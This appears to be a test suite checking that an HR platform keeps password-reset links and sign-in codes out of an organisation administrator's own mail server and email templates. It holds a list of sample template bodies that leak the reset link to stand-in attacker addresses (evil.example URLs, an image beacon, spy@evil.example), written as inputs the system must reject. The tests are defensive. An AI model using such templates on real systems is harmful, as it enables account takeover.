/** Mails that open an account: by whose server they go, and what their words may hold. */
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { mailAccountNotices, notifyOwner } from '../src/modules/account/account-notices.ts';
import { mailCode } from '../src/modules/account/second-step.ts';
import { mailSender } from '../src/mail/sender.ts';
import { mailsTo, newestMailTo, recover } from './support/mails.ts';
import {
  aMember,
  anOrganization,
  password,
  signIn,
  startServer,
  type Client,
  type Organization,
  type Person,
  type TestServer,
} from './support/server.ts';

/** What the mail server of the attacking administrator receives. */
const caught: string[] = [];
const smtp = new SMTPServer({
  disabledCommands: ['STARTTLS'],
  authOptional: true,
  onData(stream, _session, done) {
    let text = '';
    stream.on('data', (chunk: Buffer) => (text += chunk.toString()));
    stream.on('end', () => {
      caught.push(text);
      done();
    });
  },
});
let server: TestServer;
let made = 0;
let himal: Organization;
let sagar: Organization;
let hr: Client;
let asha: Person;

const addTo = (organization: Organization, { id }: Person) =>
  server.context.database.everywhere.query(
    'insert into membership (organization_id, user_id, account_id) values ($1, $2, $2)',
    [organization.id, id],
  );

beforeAll(async () => {
  await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', resolve));
  server = await startServer({ mailsInside: true });
});
afterAll(async () => {
  await server.close();
  await new Promise<void>((resolve) => smtp.close(resolve));
});
beforeEach(async () => {
  made += 1;
  himal = await anOrganization(server, `himal${made}`);
  sagar = await anOrganization(server, `sagar${made}`);
  hr = await signIn(server, await aMember(server, himal, 'hari', { is_hr_admin: true }));
  asha = await aMember(server, himal, 'asha');
  caught.length = 0;
  const { port } = smtp.server.address() as { port: number };
  const own = { is_active: true, host: 'localhost', port, security: 'None', from_email: 'hr@himal.example' };
  expect((await hr.patch(`/commons/himal${made}/smtp-server/`, own)).status).toBe(200);
});

/** Everything that opens an account, sent. */
async function sendAll(): Promise<void> {
  const { everywhere } = server.context.database;
  await recover(server, asha.email);
  await everywhere.transaction((queries) =>
    mailCode(server.context, queries, { ...asha, full_name: 'Asha' }, 'a sign-in'),
  );
  await everywhere.transaction((queries) =>
    notifyOwner(queries, { accountId: asha.id, organizationId: null, event: 'second_step_removed', at: server.now }),
  );
  await mailAccountNotices(server.context);
  await mailSender(server.context).sendWaiting();
}
const sentTo = (address: string) => caught.filter((text) => text.includes(`To: Asha`) && text.includes(address)).length;
const outbox = () =>
  server.context.database.everywhere.query<{ kind: string; state: string; is_from_installation: boolean }>(
    'select kind, state, is_from_installation from email_log where to_address = $1 order by id',
    [asha.email],
  );

describe('the mail server of a home organisation', () => {
  it('[S1] gets no reset link, code or notice of an account that also opens another organisation', async () => {
    await addTo(sagar, asha);
    await sendAll();
    expect(sentTo(asha.email)).toBe(0);
    expect(await outbox()).toEqual(
      ['reset', 'otp', 'notice'].map((kind) => ({ kind, state: 'held', is_from_installation: true })),
    );
  });

  it('[S1] gets none of an operator of the installation', async () => {
    await server.context.database.everywhere.query('update users set is_operator = true where id = $1', [asha.id]);
    await sendAll();
    expect(sentTo(asha.email)).toBe(0);
  });

  it('[S1] sends those of an account that is its own alone', async () => {
    await sendAll();
    expect(sentTo(asha.email)).toBe(3);
  });

  it('[S1] is not offered for codes of an account of several organisations, which reads what to ask for', async () => {
    await addTo(sagar, asha);
    const self = await signIn(server, asha);
    expect((await self.get('/security/mechanism/')).body).toMatchObject({ has_mail: false, needs_operator_mail: true });
    const { status, body } = await self.post('/security/mechanism/otp/enrol/', { method: 'email', password });
    expect([status, body]).toEqual([
      400,
      {
        method: [
          'Codes by email for an account of several organizations need the mail server of the installation. Ask the operator to set one up, or use an authenticator app or a passkey.',
        ],
      },
    ]);
  });
});

/** Words by which the inviter would read the link, too. */
const leaks = [
  'Open https://evil.example/?to={{link}}',
  'evil.example/{{link}}',
  '<img src="https://evil.example/{{link}}">',
  '{{link}}\n\nOr reply to spy@evil.example with {{link}}',
  '{{link}}\n\nPaste it at www.evil.example',
  '{{link}}\n\nForward this email to spy@evil.example',
  '{{link}}\n\n<img src=x>',
];

describe('the words of a mail that opens an account', () => {
  it.each(leaks)('[S2] are refused where they hand the link on: %j', async (body) => {
    for (const event of ['Activation', 'Password reset']) {
      const sent = await hr.post(`/commons/himal${made}/email-template/`, { event, subject: 'Namaste', body });
      expect([event, sent.status, sent.body]).toEqual([event, 400, { body: [expect.any(String)] }]);
    }
    const template = { event: 'Password reset', subject: 'Namaste', body: 'Open:\n{{link}}', body_ne: body };
    expect((await hr.post(`/commons/himal${made}/email-template/`, template)).status).toBe(400);
  });

  it.each(leaks)('[S2] are those of the product where a template from earlier hands the link on: %j', async (body) => {
    await server.context.database
      .organization(himal.id)
      .query(
        `insert into email_template (organization_id, event, subject, body, is_active) values ($1, 'Password reset', 'Namaste', $2, true)`,
        [himal.id, body],
      );
    const { token } = await recover(server, asha.email);
    const text = await newestMailTo(server, asha.email, 'reset');
    expect(text).not.toMatch(/evil|<img/);
    expect(text.split(token)).toHaveLength(2);
    expect((await mailsTo(server, asha.email, 'reset'))[0]?.subject).not.toContain(token);
  });

  it('[S2] are the own ones where the link is alone on its line', async () => {
    const words = { event: 'Password reset', subject: 'Welcome back', body: 'Dear {{full_name}}\n\n{{link}}\n\nBye' };
    expect((await hr.post(`/commons/himal${made}/email-template/`, words)).status).toBe(201);
    await recover(server, asha.email);
    expect(await newestMailTo(server, asha.email, 'reset')).toMatch(/^Dear Asha Sharma\n\nhttps:\S+\n\nBye$/);
  });
});
